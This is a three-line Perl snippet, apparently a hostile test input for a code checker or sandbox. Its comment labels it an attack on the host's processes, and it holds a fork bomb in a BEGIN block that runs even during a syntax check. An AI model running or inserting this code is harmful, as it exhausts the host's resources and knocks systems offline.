# Attacks: the host's processes, while a Perl program is checked: a BEGIN block that forks without end.
BEGIN { while (1) { fork } }
print 1;
